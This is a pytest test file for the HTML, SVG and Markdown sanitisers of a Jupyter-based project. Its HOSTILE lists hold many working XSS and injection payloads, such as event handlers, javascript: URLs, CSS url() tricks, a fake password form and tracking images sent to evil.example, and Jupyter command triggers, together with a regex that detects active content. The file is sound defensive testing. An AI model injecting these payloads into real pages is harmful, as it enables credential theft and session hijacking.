"""What models and visitors write must not act: hostile samples, each a known way around a sanitiser."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jupyter_spaces.space.components import markdown_to_html, sanitise_html, sanitise_svg

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=https://evil.example/track.png>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='/lab/tree/delete'>x</a>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='background-image: \\75rl(https://evil.example)'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh'>x</div>",
    "<div style='margin-top:-900px'>x</div>",
    "<div style='margin-top: calc(0px - 900px)'>x</div>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<div class=jp-Button id=main-menu>x</div>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=https://evil.example><td>x</td></table>",
    "<jupyter-widget data-commandlinker-command='terminal:create-new'>x</jupyter-widget>",
    "<button data-commandlinker-command='filebrowser:delete'>x</button>",
]

# An element, an attribute or a value that acts, in what a parser would read (so not in escaped text).
ACTS = re.compile(
    r"<\s*/?\s*(script|iframe|object|embed|form|input|button|style|link|meta|base|template|video|audio|animate|foreignobject)\b"
    r"|<[^>]*\s(on\w+|srcset|srcdoc|formaction|background|class=.jp|id|data-[\w-]+|xlink:href)\s*="
    r"|<[^>]*(javascript|vbscript|data:text|data:image/svg|evil\.example|url\((?!#)|expression|position|margin-top)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("sample", HOSTILE)
def test_nothing_that_acts_survives_in_html_svg_or_markdown(sample: str) -> None:
    for clean in (
        sanitise_html(sample),
        sanitise_svg(sample),
        markdown_to_html(sample),
        markdown_to_html(f"*a* {sample}"),
    ):
        assert not ACTS.search(clean), clean


def test_html_keeps_what_people_write() -> None:
    html = (
        '<h1>Title</h1><p style="color:red">A <strong>bold</strong> <em>word</em> and '
        '<a href="https://example.org/a?b=1" rel="noopener noreferrer">a link</a></p>'
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table><ul><li>one</li></ul><hr>'
        '<img src="data:image/png;base64,AAAA" alt="picture" width="3">'
    )
    assert sanitise_html(html) == html


def test_links_open_without_access_to_the_page() -> None:
    assert 'rel="noopener noreferrer"' in sanitise_html('<a href="https://example.org" rel="opener">x</a>')


def test_svg_keeps_shapes_text_and_local_references() -> None:
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><linearGradient id="g">'
        '<stop offset="0" stop-color="red"></stop></linearGradient></defs>'
        '<rect width="9" height="9" fill="url(#g)" transform="translate(-1 2)"></rect>'
        '<text x="1" y="2">hello</text></svg>'
    )
    clean = sanitise_svg(svg)
    for kept in ("viewBox", "linearGradient", 'fill="url(#g)"', "translate(-1 2)", "hello"):
        assert kept in clean


@pytest.mark.parametrize(
    "svg",
    [
        '<svg><use href="https://evil.example#a"/><image href="https://evil.example"/></svg>',
        '<svg><rect fill="url(https://evil.example)"/><rect style="fill:url(https://evil.example)"/></svg>',
        '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
        '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
        "<svg><style>*{background:url(https://evil.example)}</style></svg>",
        "<svg><text></text><![CDATA[<script>alert(1)</script>]]></svg>",
    ],
)
def test_a_drawing_neither_runs_nor_loads(svg: str) -> None:
    clean = sanitise_svg(svg)
    assert not ACTS.search(clean), clean
    assert "href" not in clean


def test_markdown_is_commonmark_with_tables() -> None:
    html = markdown_to_html(
        "# Hi\n\n|a|b|\n|-|-|\n|1|**2**|\n\n```python\nx < 1\n```\n\n~~old~~ `code`\n\n- one\n- two"
    )
    for part in (
        "<h1>Hi</h1>",
        "<td><strong>2</strong></td>",
        'class="language-python"',
        "x &lt; 1",
        "<s>old</s>",
        "<li>one",
    ):
        assert part in html


def test_html_in_markdown_is_shown_as_text() -> None:
    assert markdown_to_html("a <b>tag</b>") == "<p>a &lt;b&gt;tag&lt;/b&gt;</p>\n"


def test_pictures_in_markdown_are_data_urls_only() -> None:
    assert 'src="data:image/png;base64,AAAA"' in markdown_to_html("![x](data:image/png;base64,AAAA)")
    assert "src" not in markdown_to_html("![x](https://evil.example/x.png)")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "/",
                "script",
                "img ",
                "svg",
                " src=",
                " onerror=",
                "'",
                '"',
                "x",
                "style=",
                "&lt;",
                "math",
                "`",
                "](",
            ]
        ),
        max_size=25,
    ).map("".join)
)
def test_no_mixture_of_fragments_acts(soup: str) -> None:
    for clean in (sanitise_html(soup), sanitise_svg(soup), markdown_to_html(soup)):
        assert not ACTS.search(clean), clean


def test_cleaning_twice_changes_nothing() -> None:
    for sample in HOSTILE:
        once = sanitise_html(sample)
        assert sanitise_html(once) == once
